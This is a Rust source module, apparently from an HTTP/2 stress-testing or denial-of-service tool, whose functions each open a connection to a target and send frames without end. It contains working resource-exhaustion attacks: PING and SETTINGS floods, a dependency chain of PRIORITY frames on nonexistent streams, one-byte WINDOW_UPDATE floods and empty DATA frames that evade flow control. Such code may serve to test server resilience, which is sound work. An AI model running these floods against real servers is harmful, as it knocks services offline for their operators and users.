//! Frames that are cheap to send.

use std::io;

use crate::attacker::Attacker;
use crate::frames::{self, INITIAL_WINDOW_SIZE, LARGEST_WINDOW, frame_type};
use crate::link::{Link, Reading};
use crate::messages::EXAMPLE;

pub(super) fn ping(attacker: Attacker) -> io::Result<()> {
    repeat(attacker, Reading::Fast, frame_type::PING, &[7; 8])
}

pub(super) fn ping_unread(attacker: Attacker) -> io::Result<()> {
    repeat(attacker, Reading::Never, frame_type::PING, &[7; 8])
}

pub(super) fn settings(attacker: Attacker) -> io::Result<()> {
    repeat(attacker, Reading::Never, frame_type::SETTINGS, &frames::setting(INITIAL_WINDOW_SIZE, LARGEST_WINDOW))
}

/// Each frame is about another stream, none of which exists, and depends on the one before.
pub(super) fn priority(attacker: Attacker) -> io::Result<()> {
    let mut link = Link::open(attacker.target, Reading::Fast)?;
    for stream in (3..LARGEST_WINDOW).step_by(2) {
        let [a, b, c, d] = (stream - 2).to_be_bytes();
        link.frame(frame_type::PRIORITY, 0, stream, &[a, b, c, d, 255])?;
    }
    Ok(())
}

/// The window of a call grows a byte at a time.
pub(super) fn window_update(attacker: Attacker) -> io::Result<()> {
    let mut link = Link::open_with_window(attacker.target, Reading::Fast, 0)?;
    let stream = link.call(EXAMPLE, &[])?;
    loop {
        link.frame(frame_type::WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())?;
    }
}

/// Frames without data are not limited by flow control.
pub(super) fn empty_data(attacker: Attacker) -> io::Result<()> {
    let mut link = Link::open(attacker.target, Reading::Fast)?;
    let stream = link.call(EXAMPLE, &[])?;
    loop {
        link.frame(frame_type::DATA, 0, stream, &[])?;
    }
}

fn repeat(attacker: Attacker, reading: Reading, frame_type: u8, payload: &[u8]) -> io::Result<()> {
    let mut link = Link::open(attacker.target, reading)?;
    loop {
        link.frame(frame_type, 0, 0, payload)?;
    }
}
